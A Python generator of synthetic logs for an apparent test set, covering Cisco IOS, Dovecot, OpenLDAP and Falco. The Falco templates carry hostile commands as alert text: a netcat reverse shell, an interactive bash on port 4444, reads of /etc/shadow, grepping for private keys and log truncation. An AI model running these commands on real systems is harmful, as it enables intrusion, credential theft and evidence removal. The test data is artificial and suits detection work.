"""Network, mail, directory and runtime-security systems of the fourth blind log set: Cisco IOS switches through a
syslog collector, Dovecot, OpenLDAP slapd and Falco."""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import datetime

from logs_blind4_kit import Line, Pick, Tpl, build

__all__ = ["make_cisco_ios", "make_dovecot", "make_falco", "make_slapd"]

USERS = ["anna.schulz", "j.martin", "mfernandez", "k.nowak", "backup", "admin", "l.dupont", "t.yilmaz", "svc-netbox"]
SWITCHES = [("sw-acc-03", "10.20.0.13"), ("sw-acc-07", "10.20.0.17"), ("core-sw01", "10.20.0.1"),
            ("rtr-edge-fra", "10.20.0.254"), ("sw-lager-02", "10.21.0.12")]  # fmt: skip


def _syslog_stamp(when: datetime) -> str:
    return f"{when.strftime('%b')} {when.day:>2} {when.strftime('%H:%M:%S')}"


def _mac(p: Pick) -> str:
    h = p.hexs(12)
    return f"{h[:4]}.{h[4:8]}.{h[8:]}"


def _gi(p: Pick) -> str:
    return f"GigabitEthernet{p.one([1, 1, 2])}/0/{p.n(1, 48)}"


def _ios_tpls() -> list[Tpl]:
    cipher = "using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256'"

    def acl(p: Pick):
        proto = p.one(["tcp", "udp"])
        return (
            "%SEC-6-IPACCESSLOGP",
            f"list {p.one(['VTY-IN', 'GUEST-IN', '120', 'MGMT-ONLY'])} {p.one(['denied', 'denied', 'permitted'])} {proto} {p.ip(p.chance(0.6))}({p.port()}) -> {p.ip()}({p.one([22, 23, 161, 443, 3389, 445, 53])}), {p.one([1, 1, 1, 2, 5, 17])} packet{'' if p.chance(0.7) else 's'}",  # noqa: E501
        )

    def stamp_at(p: Pick) -> str:
        return f"at 08:{p.n(10, 59)}:{p.n(10, 59)} CET Tue Nov 17 2026"

    sess = lambda p: f"0A14{p.hexs(4).upper()}0000{p.hexs(4).upper()}{p.hexs(8).upper()}"  # noqa: E731

    return [
        Tpl("link_updown", 40, lambda p: ("%LINK-3-UPDOWN", f"Interface {_gi(p)}, changed state to {p.one(['down', 'up'])}")),  # noqa: E501
        Tpl("lineproto", 45, lambda p: ("%LINEPROTO-5-UPDOWN", f"Line protocol on Interface {_gi(p)}, changed state to {p.one(['down', 'up'])}")),  # noqa: E501
        Tpl("acl", 120, acl),
        Tpl("acl_icmp", 15, lambda p: ("%SEC-6-IPACCESSLOGDP", f"list GUEST-IN denied icmp {p.ip(True)} -> {p.ip(False)} (8/0), {p.one([1, 1, 3])} packet")),  # noqa: E501
        Tpl("config_i", 10, lambda p: ("%SYS-5-CONFIG_I", f"Configured from console by {p.one(USERS)} on vty{p.n(0, 4)} ({p.ip()})")),  # noqa: E501
        Tpl("login_ok", 14, lambda p: ("%SEC_LOGIN-5-LOGIN_SUCCESS", f"Login Success [user: {p.one(USERS)}] [Source: {p.ip()}] [localport: 22] {stamp_at(p)}")),  # noqa: E501
        Tpl("login_fail", 8, lambda p: ("%SEC_LOGIN-4-LOGIN_FAILED", f"Login failed [user: {p.one(USERS + ['root', 'cisco', 'ubnt'])}] [Source: {p.ip(p.chance(0.5))}] [localport: 22] [Reason: Login Authentication Failed] {stamp_at(p)}")),  # noqa: E501
        Tpl("ssh_session", 14, lambda p: ("%SSH-5-SSH2_SESSION", f"SSH2 Session request from {p.ip()} (tty = {p.n(0, 4)}) {cipher} Succeeded")),  # noqa: E501
        Tpl("ssh_auth", 13, lambda p: ("%SSH-5-SSH2_USERAUTH", f"User '{p.one(USERS)}' authentication for SSH2 Session from {p.ip()} (tty = {p.n(0, 4)}) {cipher} Succeeded")),  # noqa: E501
        Tpl("ssh_close", 13, lambda p: ("%SSH-5-SSH2_CLOSE", f"SSH2 Session from {p.ip()} (tty = {p.n(0, 4)}) for user '{p.one(USERS)}' {cipher} closed")),  # noqa: E501
        Tpl("ospf", 5, lambda p: ("%OSPF-5-ADJCHG", f"Process 10, Nbr 10.20.{p.n(0, 3)}.{p.n(1, 9)} on Vlan{p.one([100, 200, 999])} from {p.one(['FULL to DOWN, Neighbor Down: Dead timer expired', 'LOADING to FULL, Loading Done', 'EXSTART to DOWN, Neighbor Down: Interface down or detached'])}")),  # noqa: E501
        Tpl("bgp", 3, lambda p: ("%BGP-5-ADJCHANGE", f"neighbor {p.one(['80.81.192.14', '185.1.166.3', '10.20.255.2'])} {p.one(['Up', 'Down BGP Notification sent', 'Down Peer closed the session'])}")),  # noqa: E501
        Tpl("bgp_notif", 2, lambda p: ("%BGP-3-NOTIFICATION", f"sent to neighbor {p.one(['80.81.192.14', '185.1.166.3'])} 4/0 (hold time expired) 0 bytes")),  # noqa: E501
        Tpl("native_vlan", 6, lambda p: ("%CDP-4-NATIVE_VLAN_MISMATCH", f"Native VLAN mismatch discovered on {_gi(p)} ({p.one([1, 20])}), with {p.one(SWITCHES)[0]} {_gi(p)} ({p.one([1, 99])}).")),  # noqa: E501
        Tpl("macflap", 7, lambda p: ("%SW_MATM-4-MACFLAP_NOTIF", f"Host {_mac(p)} in vlan {p.one([100, 200, 310])} is flapping between port Gi{p.one([1, 2])}/0/{p.n(1, 48)} and port Po{p.n(1, 4)}")),  # noqa: E501
        Tpl("dhcp_snoop", 5, lambda p: ("%DHCP_SNOOPING-5-DHCP_SNOOPING_UNTRUSTED_PORT", f"DHCP_SNOOPING drop message on untrusted port, message type: DHCPOFFER, MAC sa: {_mac(p)}")),  # noqa: E501
        Tpl("errdisable", 3, lambda p: ("%PM-4-ERR_DISABLE", f"{p.one(['bpduguard', 'psecure-violation', 'loopback'])} error detected on Gi1/0/{(n := p.n(1, 48))}, putting Gi1/0/{n} in err-disable state")),  # noqa: E501
        Tpl("poe_granted", 9, lambda p: ("%ILPOWER-5-POWER_GRANTED", f"Interface Gi1/0/{p.n(1, 48)}: Power granted")),
        Tpl("poe_detect", 9, lambda p: ("%ILPOWER-7-DETECT", f"Interface Gi1/0/{p.n(1, 48)}: Power Device detected: IEEE PD")),  # noqa: E501
        Tpl("cfglog", 12, lambda p: ("%PARSER-5-CFGLOG_LOGGEDCMD", f"User:{p.one(USERS)}  logged command:{p.one(['interface ' + _gi(p), 'switchport access vlan ' + str(p.n(100, 320)), 'no shutdown', 'shutdown', 'description AP-Lager-' + str(p.n(1, 40)), '!exec: enable'])}")),  # noqa: E501
        Tpl("authmgr_start", 25, lambda p: ("%AUTHMGR-5-START", f"Starting '{p.one(['dot1x', 'mab'])}' for client ({_mac(p)}) on Interface Gi1/0/{p.n(1, 48)} AuditSessionID {sess(p)}")),  # noqa: E501
        Tpl("mab_ok", 18, lambda p: ("%MAB-5-SUCCESS", f"Authentication successful for client ({_mac(p)}) on Interface Gi1/0/{p.n(1, 48)} AuditSessionID {sess(p)}")),  # noqa: E501
        Tpl("dot1x_fail", 7, lambda p: ("%DOT1X-5-FAIL", f"Authentication failed for client ({_mac(p)}) on Interface Gi1/0/{p.n(1, 48)} AuditSessionID {sess(p)}")),  # noqa: E501
        Tpl("authmgr_success", 16, lambda p: ("%AUTHMGR-5-SUCCESS", f"Authorization succeeded for client ({_mac(p)}) on Interface Gi1/0/{p.n(1, 48)} AuditSessionID {sess(p)}")),  # noqa: E501
        Tpl("logging_host", 1, lambda p: ("%SYS-6-LOGGINGHOST_STARTSTOP", "Logging to host 10.20.5.40 port 514 started - CLI initiated")),  # noqa: E501
        Tpl("fan", 1, lambda p: ("%PLATFORM_ENV-1-FAN_NOT_PRESENT", f"Fan is not present in slot {p.n(1, 3)}")),
    ]  # fmt: skip


def make_cisco_ios(lines: int) -> list[Line]:
    """Switches and a router sending to an rsyslog collector: ``Mon dd hh:mm:ss ip seq: host: *time: %FAC-SEV-MNEM: text``."""  # noqa: E501

    def wrap(t: Tpl) -> Tpl:
        def make(p: Pick):
            mnemonic, text = t.make(p)
            return "", text, {"m": mnemonic}

        return Tpl(t.key, t.weight, make)

    def render(p: Pick, when: datetime, level: str, msg: str, fields: dict | None) -> tuple[str, str]:
        host, ip = p.one(SWITCHES)
        seq = p.grow(host, 40000, 3)
        local = _syslog_stamp(when) + f".{when.microsecond // 1000:03d} CET"
        return f"{_syslog_stamp(when)} {ip} {seq}: {host}: {local}: {fields['m']}: {msg}", msg

    return build("cisco_ios", [wrap(t) for t in _ios_tpls()], lines, render, gap_ms=2200)


MAILBOXES = ["anna.schulz@acme.de", "j.martin@acme.fr", "info@acme.de", "mfernandez@acme.es", "buchhaltung@acme.de",
             "k.nowak", "support@acme.de", "t.yilmaz@acme.de"]  # fmt: skip


def _dovecot_tpls() -> list[Tpl]:
    def sid(p: Pick) -> str:
        return base64.b64encode(bytes(p.n(0, 255) for _ in range(12))).decode()

    def who(p: Pick, svc: str = "imap") -> str:
        return f"{svc}({p.one(MAILBOXES)})<{p.n(1000, 99999)}><{sid(p)}>"

    def ends(p: Pick) -> str:
        return f"rip={p.ip(p.chance(0.7))}, lip=10.0.4.25"

    def login(svc: str):
        return lambda p: (
            f"{svc}-login: Login: user=<{p.one(MAILBOXES)}>, method={p.one(['PLAIN', 'PLAIN', 'LOGIN', 'XOAUTH2'])}, {ends(p)}, mpid={p.n(1000, 99999)}, TLS, session=<{sid(p)}>"  # noqa: E501
        )

    def logout(p: Pick) -> str:
        return f"{who(p)}: Logged out in={p.size(400)} out={p.size(9000)} deleted={p.one([0, 0, 0, 1, 4])} expunged={p.one([0, 0, 1])} trashed=0 hdr_count={p.n(0, 40)} hdr_bytes={p.size(3000)} body_count={p.n(0, 9)} body_bytes={p.size(20000)}"  # noqa: E501

    return [
        Tpl("imap_login", 110, login("imap")),
        Tpl("pop3_login", 12, login("pop3")),
        Tpl("logout", 100, logout),
        Tpl("disc_idle", 45, lambda p: f"{who(p)}: Disconnected: Connection closed (IDLE running for {p.r.random():.3f} + waiting input for {p.ms(900, 1.2):.3f} secs, 2 B in + 10+10 B out, state=wait-input) in={p.size(300)} out={p.size(5000)} deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 body_count=0 body_bytes=0"),  # noqa: E501
        Tpl("auth_failed", 25, lambda p: f"imap-login: Disconnected: Connection closed (auth failed, {p.one([1, 1, 2, 3])} attempts in {p.n(1, 14)} secs): user=<{p.one(MAILBOXES + ['admin', 'test', 'info'])}>, method=PLAIN, {ends(p)}, TLS, session=<{sid(p)}>"),  # noqa: E501
        Tpl("no_auth", 18, lambda p: f"imap-login: Disconnected: Connection closed (no auth attempts in {p.n(0, 9)} secs): user=<>, {ends(p)}, TLS handshaking: SSL_accept() failed: error:0A000{p.one(['418:SSL routines::tlsv1 alert unknown ca', '102:SSL routines::unsupported protocol', '0C1:SSL routines::no shared cipher'])}, session=<{sid(p)}>"),  # noqa: E501
        Tpl("pam_fail", 15, lambda p: f"auth-worker({p.n(2000, 9000)}): pam({p.one(MAILBOXES + ['admin', 'test'])},{p.ip(False)},<{sid(p)}>): pam_authenticate() failed: Authentication failure (Password mismatch?)"),  # noqa: E501
        Tpl("unknown_user", 10, lambda p: f"auth: passwd-file({p.one(['admin', 'test', 'oracle', 'info@acme.com', 'sales'])},{p.ip(False)},<{sid(p)}>): unknown user"),  # noqa: E501
        Tpl("lmtp_connect", 30, lambda p: f"lmtp({p.n(2000, 99999)}): Connect from local"),
        Tpl("lmtp_saved", 40, lambda p: f"lmtp({p.one(MAILBOXES)})<{p.n(2000, 99999)}><{sid(p)}>: msgid=<{p.hexs(16)}@{p.one(['mail.gmail.com', 'acme.de', 'eu-central-1.amazonses.com', 'mx.lieferant-gmbh.de'])}>: saved mail to {p.one(['INBOX', 'INBOX', 'Junk', 'INBOX.Rechnungen'])}"),  # noqa: E501
        Tpl("lmtp_disconnect", 30, lambda p: f"lmtp({p.n(2000, 99999)}): Disconnect from local: Client has quit the connection (state=READY)"),  # noqa: E501
        Tpl("sieve_stored", 14, lambda p: f"lmtp({p.one(MAILBOXES)})<{p.n(2000, 99999)}><{sid(p)}>: sieve: msgid=<{p.hexs(16)}@mail.gmail.com>: stored mail into mailbox '{p.one(['Lists/postgres', 'Newsletter', 'Tickets/Jira', 'Archiv/2026'])}'"),  # noqa: E501
        Tpl("sieve_discard", 3, lambda p: f"lmtp({p.one(MAILBOXES)})<{p.n(2000, 99999)}><{sid(p)}>: sieve: msgid=<{p.hexs(16)}@promo.example-shop.com>: marked message to be discarded if not explicitly delivered (discard action)"),  # noqa: E501
        Tpl("cache_err", 2, lambda p: f"{who(p)}: Error: Mailbox INBOX: UID={p.n(100, 9999)}: read(/var/vmail/acme.de/{p.one(USERS)}/Maildir/cur/{p.n(1700000000, 1800000000)}.M{p.n(1, 999999)}P{p.n(100, 9999)}.mx2:2,S) failed: Cached message size larger than expected ({p.size(9000)} > {p.size(8000)}, box=INBOX, UID={p.n(100, 9999)}) (read reason=fetch RFC822)"),  # noqa: E501
        Tpl("reappeared", 2, lambda p: f"{who(p)}: Warning: Maildir /var/vmail/acme.de/{p.one(USERS)}/Maildir/.Sent: Expunged message reappeared, giving a new UID (old uid={p.n(100, 999)}, file={p.n(1700000000, 1800000000)}.M{p.n(1, 999999)}P{p.n(100, 9999)}.mx2:2,S)"),  # noqa: E501
        Tpl("proc_limit", 2, lambda p: "master: Warning: service(imap-login): process_limit (100) reached, client connections are being dropped"),  # noqa: E501
        Tpl("indexed", 6, lambda p: f"indexer-worker({p.one(MAILBOXES)})<{p.n(2000, 99999)}><{sid(p)}>: Indexed {p.n(1, 300)} messages in {p.one(['INBOX', 'Sent', 'Archiv/2025'])} (UIDs {(a := p.n(1, 9000))}..{a + p.n(1, 300)})"),  # noqa: E501
        Tpl("fetch_closed", 20, lambda p: f"{who(p)}: Disconnected: Connection closed (UID FETCH finished {p.r.random():.3f} secs ago) in={p.size(400)} out={p.size(90000)} deleted=0 expunged=0 trashed=0 hdr_count={p.n(0, 50)} hdr_bytes={p.size(9000)} body_count={p.n(0, 9)} body_bytes={p.size(90000)}"),  # noqa: E501
        Tpl("quota", 3, lambda p: f"lmtp({p.one(MAILBOXES)})<{p.n(2000, 99999)}><{sid(p)}>: Error: msgid=<{p.hexs(16)}@acme.de>: save failed to INBOX: Quota exceeded (mailbox for user is full)"),  # noqa: E501
    ]  # fmt: skip


def _syslog_lines(name: str, tpls: list[Tpl], lines: int, tag: Callable[[Pick], str], gap_ms: float) -> list[Line]:
    """Plain-text messages behind an RFC 3164 header: ``Mon dd hh:mm:ss `` + ``tag(pick)`` + the message."""

    def wrap(t: Tpl) -> Tpl:
        return Tpl(t.key, t.weight, lambda p: ("", t.make(p), None))

    def render(p: Pick, when: datetime, level: str, msg: str, fields: dict | None) -> tuple[str, str]:
        return f"{_syslog_stamp(when)} {tag(p)}{msg}", msg

    return build(name, [wrap(t) for t in tpls], lines, render, gap_ms=gap_ms)


def make_dovecot(lines: int) -> list[Line]:
    """Dovecot 2.3 through rsyslog (RFC 3164 without a pid): ``Mon dd hh:mm:ss mx2 dovecot: message``."""
    return _syslog_lines("dovecot", _dovecot_tpls(), lines, lambda p: "mx2 dovecot: ", 1800)


BASES = ["ou=people,dc=acme,dc=io", "ou=groups,dc=acme,dc=io", "dc=acme,dc=io", "ou=services,dc=acme,dc=io"]
BINDERS = ["uid=svc-gitlab,ou=services,dc=acme,dc=io", "uid=svc-nextcloud,ou=services,dc=acme,dc=io",
           "cn=readonly,dc=acme,dc=io", "uid=svc-keyring,ou=services,dc=acme,dc=io"]  # fmt: skip


def _slapd_tpls() -> list[Tpl]:
    def c(p: Pick) -> int:
        return p.n(180000, 181500)

    def co(p: Pick) -> str:
        return f"conn={c(p)} op={p.one([0, 1, 1, 2, 2, 3, 4, 7])}"

    def times(p: Pick) -> str:
        return f"qtime={p.ms(0.012, 0.6) / 1000:.6f} etime={p.ms(0.3, 1.1) / 1000:.6f}"

    filters = [
        "(&(objectClass=inetOrgPerson)(uid={u}))",
        "(&(objectClass=groupOfNames)(member=uid={u},ou=people,dc=acme,dc=io))",  # noqa: E501
        "(|(uid={u})(mail={u}@acme.de))",
        "(memberUid={u})",
        "(objectClass=*)",
        "(&(objectClass=posixAccount)(uidNumber={n}))",
    ]

    def srch(p: Pick) -> str:
        f = p.one(filters).format(u=p.one(USERS), n=p.n(10000, 10400))
        return f'{co(p)} SRCH base="{p.one(BASES)}" scope={p.one([2, 2, 1, 0])} deref=0 filter="{f}"'

    return [
        Tpl("accept", 40, lambda p: f"conn={c(p)} fd={p.n(12, 90)} ACCEPT from IP={p.ip()}:{p.port()} (IP=0.0.0.0:{p.one([389, 389, 636])})"),  # noqa: E501
        Tpl("bind", 40, lambda p: f'{co(p)} BIND dn="{p.one(BINDERS + ["uid=" + p.one(USERS) + ",ou=people,dc=acme,dc=io"])}" method=128'),  # noqa: E501
        Tpl("bind_mech", 38, lambda p: f'{co(p)} BIND dn="{p.one(BINDERS)}" mech=SIMPLE bind_ssf=0 ssf={p.one([256, 256, 0])}'),  # noqa: E501
        Tpl("result", 70, lambda p: f"{co(p)} RESULT tag={p.one([97, 97, 97, 103, 105, 111])} err={p.one([0, 0, 0, 0, 49, 32])} {times(p)} text="),  # noqa: E501
        Tpl("srch", 120, srch),
        Tpl("srch_attr", 80, lambda p: f"{co(p)} SRCH attr={' '.join(p.r.sample(['uid', 'cn', 'mail', 'memberOf', 'displayName', 'uidNumber', 'gidNumber', 'sn', 'givenName', 'entryUUID'], p.n(1, 6)))}"),  # noqa: E501
        Tpl("search_result", 115, lambda p: f"{co(p)} SEARCH RESULT tag=101 err={p.one([0, 0, 0, 32])} {times(p)} nentries={p.one([1, 1, 0, 2, 14])} text="),  # noqa: E501
        Tpl("unbind", 35, lambda p: f"{co(p)} UNBIND"),
        Tpl("closed", 38, lambda p: f"conn={c(p)} fd={p.n(12, 90)} closed"),
        Tpl("closed_lost", 5, lambda p: f"conn={c(p)} fd={p.n(12, 90)} closed (connection lost)"),
        Tpl("ext_starttls", 10, lambda p: f"{co(p)} EXT oid=1.3.6.1.4.1.1466.20037"),
        Tpl("starttls", 10, lambda p: f"{co(p)} STARTTLS"),
        Tpl("tls", 14, lambda p: f"conn={c(p)} fd={p.n(12, 90)} TLS established tls_ssf=256 ssf=256 tls_proto=TLSv1.{p.one([3, 3, 2])} tls_cipher={p.one(['TLS_AES_256_GCM_SHA384', 'ECDHE-RSA-AES256-GCM-SHA384'])}"),  # noqa: E501
        Tpl("mod", 4, lambda p: f'{co(p)} MOD dn="uid={p.one(USERS)},ou=people,dc=acme,dc=io"'),
        Tpl("mod_attr", 4, lambda p: f"{co(p)} MOD attr={p.one(['userPassword pwdChangedTime', 'memberOf', 'loginShell', 'sshPublicKey'])}"),  # noqa: E501
        Tpl("unrecog_ctrl", 18, lambda p: "slap_global_control: unrecognized control: 1.3.6.1.4.1.42.2.27.8.5.1"),
        Tpl("not_indexed", 16, lambda p: f"<= mdb_equality_candidates: ({p.one(['memberUid', 'mail', 'member'])}) not indexed"),  # noqa: E501
        Tpl("no_conn", 2, lambda p: f"connection_read({p.n(12, 90)}): no connection!"),
        Tpl("syncrepl", 3, lambda p: f"do_syncrep2: rid={p.one(['001', '002'])} LDAP_RES_INTERMEDIATE - {p.one(['REFRESH_DELETE', 'REFRESH_PRESENT', 'SYNC_ID_SET'])}"),  # noqa: E501
        Tpl("cmp", 3, lambda p: f'{co(p)} CMP dn="cn={p.one(["vpn-users", "gitlab-admins", "lager"])},ou=groups,dc=acme,dc=io" attr="member"'),  # noqa: E501
        Tpl("ppolicy", 2, lambda p: f"ppolicy_bind: Setting warning for password expiry for uid={p.one(USERS)},ou=people,dc=acme,dc=io = {p.n(3000, 600000)} seconds"),  # noqa: E501
    ]  # fmt: skip


def make_slapd(lines: int) -> list[Line]:
    """OpenLDAP 2.5 slapd at loglevel stats through syslog: ``Mon dd hh:mm:ss ldap01 slapd[pid]: message``."""
    tag = lambda p: f"ldap01 slapd[{p.one([812, 812, 812, 4410])}]: "  # noqa: E731 - the pid after a restart
    return _syslog_lines("slapd", _slapd_tpls(), lines, tag, 200)


CONTAINERS = [("3f1c9b2a7d0e", "shop/web", "registry.acme.internal/shop/web", "1.8.2"),
              ("9ab2c4d1e7f3", "payments/pricing-api", "registry.acme.internal/payments/pricing-api", "2026.11.3"),
              ("c0ffee12ab34", "kube-system/debug-tools", "docker.io/nicolaka/netshoot", "v0.11"),
              ("77d1e0a9b3c2", "search/opensearch-0", "opensearchproject/opensearch", "2.11.1")]  # fmt: skip


def _falco_tpls() -> list[Tpl]:
    def ctr(p: Pick) -> str:
        cid, pod, image, tag = p.one(CONTAINERS)
        ns, name = pod.split("/")
        return f"container_id={cid} container_image={image} container_image_tag={tag} container_name={name} k8s_ns={ns} k8s_pod_name={name}-{p.word(5)}"  # noqa: E501

    def proc(p: Pick, process: str, cmd: str, parent: str = "containerd-shim", evt: str = "execve") -> str:
        return f"evt_type={evt} user={p.one(['root', 'root', 'app', 'www-data'])} user_uid={p.one([0, 0, 1000, 33])} user_loginuid=-1 process={process} proc_exepath=/usr/bin/{process} parent={parent} command={cmd} terminal={p.one([0, 34816, 34817])}"  # noqa: E501

    return [
        Tpl("shell", 70, lambda p: ("Notice", f"A shell was spawned in a container with an attached terminal ({proc(p, (s := p.one(['bash', 'sh', 'ash'])), s, 'runc')} exe_flags=EXE_WRITABLE {ctr(p)})")),  # noqa: E501
        Tpl("k8s_api", 60, lambda p: ("Notice", f"Unexpected connection to K8s API Server from container (connection={p.ip()}:{p.port()}->10.96.0.1:443 lport=443 rport={p.port()} fd_type=ipv4 fd_proto=tcp {proc(p, 'curl', 'curl -sk https://kubernetes.default.svc/api/v1/namespaces', 'bash', 'connect')} {ctr(p)})")),  # noqa: E501
        Tpl("sensitive", 40, lambda p: ("Warning", f"Sensitive file opened for reading by non-trusted program (file={p.one(['/etc/shadow', '/etc/shadow', '/etc/sudoers', '/etc/pam.d/common-auth'])} gparent={p.one(['systemd', 'sshd', 'containerd-shim'])} ggparent=<NA> gggparent=<NA> {proc(p, (x := p.one(['cat', 'python3', 'vim'])), x + ' /etc/shadow', 'bash', 'openat')} container_id=host container_name=host)")),  # noqa: E501
        Tpl("pkg_mgmt", 25, lambda p: ("Error", f"Package management process launched in container ({proc(p, (m := p.one(['apt-get', 'apk', 'pip'])), m + ' install -y ' + p.one(['curl', 'netcat-openbsd', 'tcpdump', 'requests']), 'bash')} {ctr(p)})")),  # noqa: E501
        Tpl("drop_exec", 8, lambda p: ("Critical", f"Executing binary not part of base image (proc_exe=/tmp/{p.word(7)} proc_sname=bash gparent=runc proc_exe_ino_ctime={p.n(10**18, 2 * 10**18)} proc_exe_ino_mtime={p.n(10**18, 2 * 10**18)} proc_exe_ino_ctime_duration_proc_start={p.n(10**6, 10**10)} proc_cwd=/tmp/ container_start_ts={p.n(10**18, 2 * 10**18)} {proc(p, 'kdevtmpfsi', '/tmp/kdevtmpfsi', 'bash')} {ctr(p)})")),  # noqa: E501
        Tpl("clear_log", 2, lambda p: ("Warning", f"Log files were tampered (file={p.one(['/var/log/auth.log', '/var/log/syslog', '/var/log/nginx/access.log'])} {proc(p, 'truncate', 'truncate -s0 /var/log/auth.log', 'bash', 'openat')} container_id=host container_name=host)")),  # noqa: E501
        Tpl("grep_keys", 6, lambda p: ("Warning", f"Grep private keys or passwords activities found ({proc(p, 'grep', 'grep -r BEGIN RSA PRIVATE /home', 'bash')} {ctr(p)})")),  # noqa: E501
        Tpl("write_etc", 10, lambda p: ("Error", f"File below /etc opened for writing (file=/etc/{p.one(['resolv.conf', 'hosts', 'ld.so.preload', 'crontab'])} pcmdline={p.one(['bash', 'entrypoint.sh'])} gparent=runc ggparent=<NA> gggparent=<NA> {proc(p, 'sed', 'sed -i s/1.1.1.1/10.96.0.10/ /etc/resolv.conf', 'bash', 'openat')} {ctr(p)})")),  # noqa: E501
        Tpl("redirect", 3, lambda p: ("Critical", f"Redirect stdout/stdin to network connection (gparent=runc ggparent=<NA> fd.sip={p.ip(False)} connection={p.ip()}:{p.port()}->{p.ip(False)}:4444 lport={p.port()} rport=4444 fd_type=ipv4 fd_proto=tcp {proc(p, 'bash', 'bash -i', 'sh', 'dup2')} {ctr(p)})")),  # noqa: E501
        Tpl("ptrace", 2, lambda p: ("Warning", f"Detected ptrace PTRACE_ATTACH attempt (proc_pcmdline=bash {proc(p, 'gdb', 'gdb -p ' + str(p.n(100, 9000)), 'bash', 'ptrace')} {ctr(p)})")),  # noqa: E501
        Tpl("packet_socket", 3, lambda p: ("Notice", f"Packet socket was created in a container (socket_info=domain=17(AF_PACKET) {proc(p, 'tcpdump', 'tcpdump -i any port 53', 'bash', 'socket')} {ctr(p)})")),  # noqa: E501
        Tpl("netcat", 2, lambda p: ("Warning", f"Netcat runs inside container that allows remote code execution ({proc(p, 'nc', 'nc -e /bin/sh ' + p.ip(False) + ' 4444', 'bash')} {ctr(p)})")),  # noqa: E501
        Tpl("memfd", 1, lambda p: ("Critical", f"Fileless execution via memfd_create (container_start_ts={p.n(10**18, 2 * 10**18)} proc_cwd=/ evt_res=SUCCESS proc_sname=python3 gparent=runc {proc(p, 'memfd:', 'memfd: ', 'python3')} {ctr(p)})")),  # noqa: E501
        Tpl("drops", 6, lambda p: ("Debug", f"Falco internal: syscall event drop. {p.n(1, 9000)} system calls dropped in last second.")),  # noqa: E501
        Tpl("setuid", 2, lambda p: ("Notice", f"Unexpected setuid call by non-sudo, non-root program (arg_uid=0 {proc(p, 'su', 'su -', 'bash', 'setuid')} {ctr(p)})")),  # noqa: E501
        Tpl("mount", 2, lambda p: ("Warning", f"Mount was executed inside a privileged container ({proc(p, 'mount', 'mount /dev/sda1 /mnt', 'bash')} {ctr(p)})")),  # noqa: E501
        Tpl("crontab", 2, lambda p: ("Notice", f"Schedule Cron Jobs ({proc(p, 'crontab', 'crontab -e', 'bash')} container_id=host container_name=host)")),  # noqa: E501
    ]  # fmt: skip


def make_falco(lines: int) -> list[Line]:
    """Falco 0.37 text output to stdout: ``time: Priority rule output (fields)``."""

    def wrap(t: Tpl) -> Tpl:
        def make(p: Pick):
            priority, text = t.make(p)
            return priority, text, None

        return Tpl(t.key, t.weight, make)

    def render(p: Pick, when: datetime, level: str, msg: str, fields: dict | None) -> tuple[str, str]:
        stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%f") + f"{p.n(100, 999)}+0000"
        return f"{stamp}: {level} {msg}", msg

    return build("falco", [wrap(t) for t in _falco_tpls()], lines, render, gap_ms=6000)
